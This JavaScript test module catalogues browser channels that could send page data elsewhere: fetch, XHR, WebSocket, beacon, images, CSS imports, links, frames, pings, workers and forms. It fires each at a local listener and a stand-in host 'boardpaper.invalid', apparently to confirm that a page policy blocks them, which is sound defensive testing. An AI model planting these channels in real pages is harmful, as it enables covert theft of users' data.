// Ways in which something in a page could send a file elsewhere: each is tried.
import http from 'node:http';
import { pause } from './browsers.mjs';

// What could carry a file away and a policy forbids, each as a function that runs in the page and gets an address.
const ways = {
    fetch: (to) =>
        fetch(to).then(
            () => {},
            () => {},
        ),
    XMLHttpRequest: (to) =>
        new Promise((done) => {
            const request = new XMLHttpRequest();
            request.onloadend = done;
            request.open('POST', to);
            request.send('rows');
        }),
    WebSocket: (to) => {
        new WebSocket(to.replace('http', 'ws'));
    },
    EventSource: (to) => {
        new EventSource(to);
    },
    sendBeacon: (to) => {
        navigator.sendBeacon(to, 'rows');
    },
    picture: (to) => {
        new Image().src = to;
    },
    video: (to) => {
        document.createElement('video').src = to;
    },
    style: (to) => {
        const style = document.createElement('style');
        style.textContent = `@import url(${to}-import); body { background: url(${to}-background) }
            @font-face { font-family: away; src: url(${to}-font) } h1 { font-family: away }`;
        document.head.append(style);
    },
    script: (to) => {
        const script = document.createElement('script');
        script.src = to;
        document.head.append(script);
    },
    links: (to) => {
        for (const rel of [
            'stylesheet',
            'preload',
            'modulepreload',
            'prefetch',
            'preconnect',
            'icon',
            'manifest',
        ]) {
            const link = document.createElement('link');
            Object.assign(link, { rel, href: `${to}-${rel}` });
            link.as = rel === 'preload' ? 'image' : '';
            document.head.append(link);
        }
    },
    'a frame': (to) => {
        const frame = document.createElement('iframe');
        frame.src = to;
        document.body.append(frame);
    },
    'an object': (to) => {
        const object = document.createElement('object');
        object.data = to;
        document.body.append(object);
    },
    'a ping': (to) => {
        const link = document.createElement('a');
        link.href = '#main';
        link.ping = to;
        document.body.append(link);
        link.click();
    },
    'a worker': (to) =>
        new Promise((done) => {
            const source = `
                const tried = [
                    () => importScripts('${to}-import'),
                    () => {
                        const request = new XMLHttpRequest();
                        request.open('GET', '${to}-request', false);
                        request.send();
                    },
                    () => new WebSocket('${to.replace('http', 'ws')}'),
                ];
                for (const one of tried)
                    try {
                        one();
                    } catch {}
                fetch('${to}-fetch').then(() => {}, () => {}).then(() => postMessage(0));`;
            const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
            worker.onmessage = worker.onerror = done;
            setTimeout(done, 3000);
        }),
    // the last, as it leads away
    'a form': (to) => {
        const form = document.createElement('form');
        Object.assign(form, { action: to, method: 'post' });
        document.body.append(form);
        form.submit();
    },
};

// Somebody else's machine: what arrives there.
class Elsewhere {
    arrived = [];

    async start() {
        this.server = http.createServer((request, response) => {
            this.arrived.push(`${request.method} ${request.url}`);
            response.writeHead(200, { 'access-control-allow-origin': '*' }).end('/**/');
        });
        this.server.on('upgrade', (request, socket) => {
            this.arrived.push(`upgrade ${request.url}`);
            socket.destroy();
        });
        await new Promise((resolve) => {
            this.server.listen(0, '127.0.0.1', resolve);
        });
        this.url = `http://127.0.0.1:${this.server.address().port}`;
        return this;
    }

    stop() {
        this.server.closeAllConnections();
        this.server.close();
    }
}

// Tries all ways, to this machine and to a name that only a proxy could find. Gives those that arrived.
export async function tryAll(visit) {
    const elsewhere = await new Elsewhere().start();
    const { asked } = visit.browser.proxy,
        before = asked.length;
    for (const [name, way] of Object.entries(ways))
        for (const to of [elsewhere.url, 'http://boardpaper.invalid'])
            await Promise.race([
                visit.ask(way, `${to}/${encodeURIComponent(name)}`).catch(() => {}),
                pause(4000),
            ]);
    await pause(500);
    elsewhere.stop();
    return [...elsewhere.arrived, ...asked.slice(before)];
}

// What was asked for besides the page itself, as the browser tells of it.
export function askedFor(visit, address) {
    return visit.requests.filter((url) => url !== address && !/^(data|blob|about):/.test(url));
}
